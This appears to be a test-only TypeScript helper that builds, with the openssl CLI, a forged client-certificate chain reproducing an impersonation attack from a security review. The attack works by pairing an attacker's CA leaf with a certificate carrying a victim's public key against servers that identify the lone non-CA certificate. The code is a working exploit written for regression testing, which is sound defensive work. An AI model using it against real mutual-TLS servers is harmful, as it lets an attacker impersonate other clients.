// The forged-certificate attack of the first security review, built with the openssl CLI
// exactly as the report's repro does. Test-only code.
//
// The attacker holds only its own key. It presents a chain of two certificates:
//   1. leaf:   the attacker's public key, basicConstraints CA:TRUE, issuer CN=forged-issuer
//   2. forged: subject CN=forged-issuer, carrying the VICTIM's public key, signed by a key
//              the attacker made up (so the signature is worthless)
// The TLS handshake proves possession of the leaf's key only. A server that drops CA
// certificates and identifies "the one non-CA certificate left" identifies the forged one,
// i.e. the victim.
import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';

/** What the attacker sends: `cert` is the leaf followed by the forged certificate. */
export interface ForgedChain {
  /** PEM: leaf, then the forged certificate (Node sends every block as the client chain). */
  readonly cert: string;
  /** The attacker's private key (PEM): the key of the leaf. */
  readonly key: string;
  /** The leaf alone (PEM). */
  readonly leaf: string;
  /** The forged certificate alone (PEM); its public key is the victim's. */
  readonly forged: string;
}

function openssl(args: readonly string[], cwd: string): void {
  execFileSync('openssl', args, { cwd, stdio: ['ignore', 'ignore', 'pipe'] });
}

/**
 * Builds the forged chain for a victim certificate (its public key is all the attacker needs).
 * `curve` must match the victim's key type for `-force_pubkey` (P-256 for ECDSA victims;
 * `ed25519` for API-key victims).
 *
 * @param leafIsCA false builds a non-CA leaf instead (the "two client certificates" variant).
 */
export function createForgedChain(victimCertificatePem: string, options: { curve?: 'P-256' | 'ed25519'; leafIsCA?: boolean } = {}): ForgedChain {
  const dir = mkdtempSync(join(tmpdir(), 'kes-forged-'));
  try {
    const gen = (out: string): void =>
      options.curve === 'ed25519'
        ? openssl(['genpkey', '-algorithm', 'ed25519', '-out', out], dir)
        : openssl(['genpkey', '-algorithm', 'ec', '-pkeyopt', 'ec_paramgen_curve:P-256', '-out', out], dir);
    writeFileSync(join(dir, 'victim.crt'), victimCertificatePem);
    openssl(['x509', '-in', 'victim.crt', '-pubkey', '-noout', '-out', 'victim.pub'], dir);
    gen('signer.key');
    gen('atk.key');
    // No key identifiers: the chain is then linked by names only, as in the report.
    writeFileSync(
      join(dir, 'leaf.ext'),
      `basicConstraints=critical,CA:${options.leafIsCA === false ? 'FALSE' : 'TRUE'}\nsubjectKeyIdentifier=none\nauthorityKeyIdentifier=none\n`,
    );
    writeFileSync(join(dir, 'forged.ext'), 'basicConstraints=critical,CA:FALSE\nsubjectKeyIdentifier=none\nauthorityKeyIdentifier=none\n');
    // The issuer the leaf names: CN=forged-issuer, made with the signer key.
    openssl(['req', '-new', '-x509', '-key', 'signer.key', '-subj', '/CN=forged-issuer', '-days', '1', '-out', 'signer.crt'], dir);
    openssl(['req', '-new', '-key', 'atk.key', '-subj', '/CN=attacker', '-out', 'leaf.csr'], dir);
    openssl(
      [
        'x509',
        '-req',
        '-in',
        'leaf.csr',
        '-CA',
        'signer.crt',
        '-CAkey',
        'signer.key',
        '-set_serial',
        '2',
        '-days',
        '1',
        '-extfile',
        'leaf.ext',
        '-out',
        'leaf.crt',
      ],
      dir,
    );
    // The forgery: subject CN=forged-issuer with the victim's public key, "self-signed" by the signer key.
    openssl(['req', '-new', '-key', 'signer.key', '-subj', '/CN=forged-issuer', '-out', 'forged.csr'], dir);
    openssl(
      [
        'x509',
        '-req',
        '-in',
        'forged.csr',
        '-signkey',
        'signer.key',
        '-force_pubkey',
        'victim.pub',
        '-days',
        '1',
        '-extfile',
        'forged.ext',
        '-out',
        'forged.crt',
      ],
      dir,
    );
    const leaf = readFileSync(join(dir, 'leaf.crt'), 'utf8');
    const forged = readFileSync(join(dir, 'forged.crt'), 'utf8');
    return { cert: leaf + forged, key: readFileSync(join(dir, 'atk.key'), 'utf8'), leaf, forged };
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
}
